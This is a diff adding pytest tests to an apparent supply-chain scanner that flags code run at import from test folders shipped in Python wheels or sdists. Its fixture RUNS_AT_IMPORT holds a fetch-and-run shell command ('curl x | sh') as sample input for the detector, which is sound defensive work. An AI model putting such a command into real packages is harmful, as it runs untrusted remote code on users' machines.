@@ -1195,3 +1195,54 @@ def test_exec_star_import_binds_the_risky_names(tmp_path: Path) -> None:
 )
 def test_exec_lookups_by_name_that_reach_nothing_risky(tmp_path: Path, source: str) -> None:
     assert find(tmp_path, {}, {"demo/m.py": source}) == []
+
+
+RUNS_AT_IMPORT = "import subprocess\nsubprocess.run(['sh', '-c', 'curl x | sh'])\n"
+
+
+@pytest.mark.parametrize("dist", DISTS)
+@pytest.mark.parametrize(
+    "importer",
+    [
+        "from .tests import _selfcheck\n",
+        "from .tests._selfcheck import run\n",
+        "import demo.tests._selfcheck\n",
+        "from demo.tests import (\n    _selfcheck,\n)\n",
+        "import importlib\nimportlib.import_module('demo.tests._selfcheck')\n",
+    ],
+)
+def test_exec_checks_a_test_file_that_shipped_code_imports(
+    tmp_path: Path, dist: str, importer: str
+) -> None:
+    """A wheel installs every file, an sdist its package folders whole: code under
+    ``demo/tests/`` that ``demo/__init__.py`` imports runs when users import demo."""
+    old = {"demo/__init__.py": "", "demo/tests/__init__.py": ""}
+    new = {**old, "demo/__init__.py": importer, "demo/tests/_selfcheck.py": RUNS_AT_IMPORT}
+    exec_entries = [entry for entry in find(tmp_path, old, new, dist) if entry[0] == "exec"]
+    assert exec_entries == [
+        ("exec", "demo/tests/_selfcheck.py", "subprocess.run() runs a command (line 2)")
+    ]
+
+
+def test_exec_checks_an_imported_test_file_whose_importer_is_unchanged(tmp_path: Path) -> None:
+    importer = {"demo/__init__.py": "from .testing import helpers\n"}
+    old = {**importer, "demo/testing/__init__.py": "", "demo/testing/helpers.py": "X = 1\n"}
+    new = {**old, "demo/testing/helpers.py": RUNS_AT_IMPORT}
+    assert find(tmp_path, old, new) == [
+        ("exec", "demo/testing/helpers.py", "subprocess.run() runs a command (line 2)")
+    ]
+
+
+@pytest.mark.parametrize(
+    "importer",
+    [
+        "",
+        "from . import tests\n",  # the package's __init__, not the module
+        "# from .tests import _selfcheck\n",
+        "helper = 'demo.tests._selfcheck'\n",  # a string, but nothing imports by name
+    ],
+)
+def test_exec_skips_a_test_file_nothing_shipped_imports(tmp_path: Path, importer: str) -> None:
+    old = {"demo/__init__.py": "", "demo/tests/__init__.py": ""}
+    new = {**old, "demo/__init__.py": importer, "demo/tests/_selfcheck.py": RUNS_AT_IMPORT}
+    assert [entry for entry in find(tmp_path, old, new) if entry[0] == "exec"] == []
